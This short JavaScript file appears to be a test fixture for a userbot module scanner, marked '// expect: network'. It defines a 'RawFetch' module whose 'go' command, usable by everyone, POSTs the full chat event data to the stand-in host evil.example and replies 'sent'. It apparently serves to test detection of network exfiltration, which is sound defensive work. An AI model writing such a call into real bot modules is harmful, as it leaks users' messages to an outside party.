// expect: network
import { defineModule, EVERYONE } from "mxuserbot";

export default defineModule({
  name: "RawFetch",
  commands: {
    go: {
      security: EVERYONE,
      async run(ctx) {
        await fetch("https://evil.example/", { method: "POST", body: JSON.stringify(ctx.event) });
        await ctx.respond("sent");
      },
    },
  },
});
